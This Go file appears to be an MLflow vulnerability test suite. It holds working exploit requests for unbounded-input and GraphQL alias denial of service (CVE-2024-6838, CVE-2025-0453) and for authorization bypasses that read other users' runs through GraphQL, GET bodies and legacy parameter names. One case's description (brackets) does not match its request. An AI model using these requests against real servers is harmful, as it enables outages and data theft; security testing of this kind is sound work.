package attack

import "strings"

// mlflowRequests are about the form of requests: names without bounds, queries that cost much, methods and bodies that filters do not expect.
var mlflowRequests = []Attack{
	{
		ID:    "mlflow/name-without-bound",
		CVE:   []string{"CVE-2024-6838"},
		Doc:   "creates an experiment whose name is a megabyte",
		Works: []string{"2.9.2", "2.8.0"},
		Steps: []Step{post(api2+"/experiments/create", `{"name": "lab-${nonce}-${long}"}`).save("exp", "experiment_id")},
		Proof: Proof{Probe: probe("GET " + api2 + "/experiments/get?experiment_id=${exp}"), Shows: "${most}"},
	},
	{
		ID:    "mlflow/location-without-bound",
		CVE:   []string{"CVE-2024-6838"},
		Doc:   "creates an experiment whose location is a megabyte",
		Works: []string{"2.9.2", "2.8.0"},
		Steps: []Step{experimentAt("s3://bucket/${long}")},
		Proof: Proof{Probe: probe("GET " + api2 + "/experiments/get?experiment_id=${exp}"), Shows: "${most}"},
		Check: locationCheck("s3://bucket/${long}"),
	},
	{
		ID:    "mlflow/graphql-aliases",
		CVE:   []string{"CVE-2025-0453"},
		Doc:   "asks the same field three hundred times under other names in one GraphQL request",
		Works: []string{"2.16.2"},
		Steps: []Step{experiment(), newRun(), {Request: "POST /graphql\n\n" + `{"query": "query { ` + aliases(300) + `}"}`}},
		Proof: Proof{Answer: `"a299":{`},
		Check: &Check{
			Steps: []Step{post("/graphql", `{"query": "query { `+names(300)+`}"}`)},
			Proof: Proof{Answer: `"a299":`},
		},
	},
	{
		ID:    "mlflow/graphql-others",
		Doc:   "reads somebody else's run through GraphQL",
		Works: []string{"2.16.2", "3.9.0", "new"},
		Steps: steps(theirs(), []Step{post("/graphql", `{"query": "query { mlflowGetRun(input: {runId: \"${vrun}\"}) { run { data { params { key value } tags { key value } } } } }"}`)}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID:    "mlflow/graphql-ajax-get",
		Doc:   "reads somebody else's experiment through GraphQL by its other address",
		Works: []string{"2.16.2", "3.9.0", "new"},
		Steps: steps(theirs(), []Step{post("/graphql", `{"operationName": "Q", "variables": {"i": {"experimentId": "${vexp}"}}, "query": "query Q($i: MlflowGetExperimentInput!) { mlflowGetExperiment(input: $i) { experiment { name } } }"}`)}),
		Proof: Proof{Answer: "secret-${nonce}"},
	},
	{
		ID:    "mlflow/get-with-body",
		Doc:   "reads somebody else's run with a GET whose parameters are in a body, where no filter looks",
		Works: []string{"2.9.2", "2.16.2", "3.9.0", "new"},
		Steps: steps(theirs(), []Step{{Request: "GET " + api2 + "/runs/get\n\n" + `{"run_id": "${vrun}"}`}}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID:    "mlflow/run-uuid-alias",
		Doc:   "names somebody else's run by the old name of the parameter, and one's own by the new one",
		Works: []string{"2.9.2", "2.16.2", "new"},
		Steps: steps(theirs(), []Step{get(api2 + "/runs/get?run_uuid=${vrun}")}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID:    "mlflow/bracketed-parameter",
		Doc:   "writes the parameter with brackets, which the server's own query parser takes apart",
		Works: []string{"2.9.2", "2.16.2"},
		Steps: steps(theirs(), []Step{get(ajax2 + "/metrics/get-history-bulk?run_id=${vrun}&metric_key=m")}),
		Proof: Proof{Answer: "4711.25"},
	},
}

func aliases(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString("a")
		b.WriteString(itoa(i))
		b.WriteString(`: mlflowGetRun(input: {runId: \"${run}\"}) { run { info { runId } } } `)
	}
	return b.String()
}

// names asks for the type's name, which every GraphQL server knows, under n names.
func names(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString("a" + itoa(i) + ": __typename ")
	}
	return b.String()
}

func itoa(i int) string {
	if i < 10 {
		return string(rune('0' + i))
	}
	return itoa(i/10) + itoa(i%10)
}
